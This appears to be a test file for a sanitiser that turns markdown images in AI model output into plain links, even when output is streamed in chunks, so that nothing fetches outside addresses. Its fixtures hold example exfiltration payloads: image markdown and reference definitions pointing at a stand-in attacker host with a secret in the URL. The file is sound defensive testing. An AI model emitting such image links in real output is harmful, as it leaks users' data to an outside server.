"""Model output shown without fetching outside addresses: markdown images become links, even mid-stream."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from catalog.playground import stream_without_images, without_images

IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:", re.MULTILINE)
PIECES = ["!", "[", "]", "(", ")", "![", "](", "]: ", "\n", " ", "alt", "http://e.example/?q=s", "`", "vec![1]", "x"]


def test_inline_images_become_links():
    shown = without_images('Look: ![cat](https://evil.example/leak?c=secret "a cat") and ![](x.png).')
    assert shown == "Look: image [cat](https://evil.example/leak?c=secret) and image [untitled](x.png)."


def test_reference_definitions_are_escaped_so_reference_images_never_resolve():
    shown = without_images("![cat][c] and ![c]\n\n[c]: https://evil.example/leak\n   [d]: http://x\n[not]: later")
    assert "\\[c]: https://evil.example/leak" in shown and "   \\[d]: http://x" in shown
    assert DEFINITION.search(shown) is None


def test_text_that_is_not_an_image_is_left_alone():
    text = "vec![1, 2] and a [link](https://example.com) and a bang! ![x]\n(y)"
    assert without_images(text) == text


def test_a_streamed_image_split_anywhere_never_shows_as_an_image():
    text = "Hi ![cat](https://evil.example/leak?q=secret) bye\n[d]: https://evil.example/p\n![r][d]"
    for cut in range(len(text)):
        shown = ""
        for piece in stream_without_images([text[:cut], text[cut:]]):
            shown += piece
            assert IMAGE.search(shown) is None and DEFINITION.search(shown) is None
        assert shown == without_images(text)


@settings(max_examples=400)
@given(st.lists(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), max_size=8))
def test_any_chunking_shows_the_same_text_and_no_image_at_any_moment(chunks):
    shown = ""
    for piece in stream_without_images(chunks):
        shown += piece
        assert IMAGE.search(shown) is None and DEFINITION.search(shown) is None
    assert shown == without_images("".join(chunks))
